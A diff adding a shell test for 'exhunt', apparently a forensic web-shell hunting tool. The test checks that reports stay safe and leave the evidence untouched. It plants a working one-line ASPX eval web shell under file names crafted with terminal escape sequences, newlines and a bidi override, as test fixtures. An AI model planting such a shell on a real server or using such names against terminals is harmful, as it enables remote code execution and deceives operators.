@@ -1,0 +1,93 @@
+# exhunt hunt against evidence written to fool it: names with terminal
+# escapes, newlines, bidi overrides and bytes that are not UTF-8 never
+# reach the terminal raw and stay lossless in JSON; hundreds of decoy
+# shells never push "reset every credential" out of the advice; the HTML
+# page has the back doors, notes and unreadable sections; the report is
+# never written through a link, a hard link or into the evidence; a full
+# disk or a closed pipe is a failure (exit 3), never a quiet success.
+. "$(dirname "$0")/lib.sh"
+tree="$TMP/ev"
+web="$tree/inetpub/wwwroot/aspnet_client"
+mkdir -p "$web" "$tree/Windows/Temp"
+shell='<%@ Page Language="Jscript"%><%eval(Request.Item["q"],"unsafe");%>'
+printf '%s' "$shell" > "$web/$(printf 'a\033[2K\r\033[1Aclean.aspx')"
+printf '%s' "$shell" > "$web/$(printf 'line\nbreak.aspx')"
+printf '%s' "$shell" > "$web/$(printf 'cod\xe2\x80\xaexpsa.aspx')"
+printf '%s' "$shell" > "$web/$(printf 'latin\xe9.aspx')"
+for i in $(seq 1 300); do printf '%s' "$shell" > "$web/decoy$i.aspx"; done
+printf 'MDMP' > "$tree/Windows/Temp/lsass.dmp"
+snap() { (cd "$tree" && find . -printf '%p %s %T@ %A@\n' | sort | sha256sum); }
+# Under relatime the first listing of a new folder moves its access time:
+# let our own find do that before the snapshot that counts.
+snap >/dev/null; sleep 1
+before=$(snap)
+
+set +e
+"$EXHUNT" hunt "$tree" --no-progress > "$TMP/out.txt" 2>"$TMP/err.txt"; rc=$?
+set -e
+[ $rc = 1 ] || fail "hunt exit $rc, want 1"
+python3 - "$TMP/out.txt" <<'PY' || fail "raw control characters reached the terminal"
+import sys
+b = open(sys.argv[1], "rb").read()
+bad = [c for c in b if (c < 0x20 and c not in (0x0a,)) or c == 0x7f]
+if bad or b"\xe2\x80\xae" in b or b"\r" in b:
+    print("raw bytes:", sorted(set(bad))[:10]); sys.exit(1)
+if b"\\x1b[2K" not in b:
+    print("the escape sequence is not shown visibly"); sys.exit(1)
+PY
+grep -q "Reset every credential" "$TMP/out.txt" || fail "decoys pushed the credential reset out of the advice"
+grep -q "Rebuild this server" "$TMP/out.txt" || fail "no rebuild advice"
+
+"$EXHUNT" hunt "$tree" --no-progress --format json -o "$TMP/r.json" 2>/dev/null || true
+python3 - "$TMP/r.json" "$web" <<'PY' || fail "JSON names"
+import json, os, sys
+r = json.load(open(sys.argv[1]))
+paths = {f["path"] for f in r["findings"]}
+names = {os.fsencode(p).split(b"/")[-1] for p in (q.encode("utf-8", "surrogateescape").decode("utf-8", "surrogateescape") for q in paths)}
+want = set(os.listdir(os.fsencode(sys.argv[2])))
+got = {p.encode("utf-8", "surrogateescape").split(b"/")[-1] for p in paths if p.startswith("inetpub/")}
+missing = want - got
+if missing:
+    print("names not kept losslessly:", sorted(missing)[:5]); sys.exit(1)
+steps = " ".join(r["next_steps"])
+if "Reset every credential" not in steps:
+    print("steps:", r["next_steps"]); sys.exit(1)
+PY
+
+"$EXHUNT" hunt "$tree" --no-progress --format html -o "$TMP/r.html" 2>/dev/null || true
+grep -q "<h2>Back doors</h2>" "$TMP/r.html" && grep -q "<h2>Notes</h2>" "$TMP/r.html" &&
+	grep -q "Not read, or read in part" "$TMP/r.html" || fail "HTML sections missing"
+python3 - "$TMP/r.html" <<'PY' || fail "raw controls in HTML"
+import sys
+b = open(sys.argv[1], "rb").read()
+if b"\x1b" in b or b"\xe2\x80\xae" in b: sys.exit(1)
+PY
+
+# The report never lands in the evidence.
+victim="$tree/Windows/Temp/lsass.dmp"
+ln -s "$victim" "$TMP/link.json"
+ln "$victim" "$TMP/hard.json" 2>/dev/null || cp "$victim" "$TMP/hard.json"
+mkdir -p "$TMP/bind"
+for out in "$TMP/link.json" "$TMP/hard.json" "$tree/report.json" "$tree/Windows/new.json"; do
+	set +e
+	"$EXHUNT" hunt "$tree" --no-progress --format json -o "$out" >/dev/null 2>"$TMP/e"; rc=$?
+	set -e
+	if [ "$out" = "$TMP/hard.json" ] && [ "$(stat -c %h "$victim")" = 1 ]; then continue; fi
+	[ $rc = 2 ] || fail "-o $out: exit $rc, want 2 (refused)"
+done
+[ ! -e "$tree/report.json" ] && [ ! -e "$tree/Windows/new.json" ] || fail "a report was created in the evidence"
+if unshare -m true 2>/dev/null; then
+	unshare -m bash -c "mount --bind '$tree' '$TMP/bind' && '$EXHUNT' hunt '$tree' --no-progress --format json -o '$TMP/bind/x.json' >/dev/null 2>&1; echo \$? > '$TMP/bindrc'"
+	[ "$(cat "$TMP/bindrc")" = 2 ] || fail "a report through a bind mount of the evidence was not refused"
+	[ ! -e "$tree/x.json" ] || fail "a report was written through a bind mount"
+fi
+after=$(snap)
+[ "$before" = "$after" ] || fail "the evidence changed (names, sizes, times)"
+
+# Write failures are loud.
+set +e
+"$EXHUNT" hunt "$tree" --no-progress > /dev/full 2>/dev/null; rc=$?
+"$EXHUNT" hunt "$tree" --no-progress --format json -o - > /dev/full 2>/dev/null; rc2=$?
+set -e
+[ $rc = 3 ] && [ $rc2 = 3 ] || fail "writing to a full disk: exits $rc $rc2, want 3"
+echo "hunt_hostile: ok"
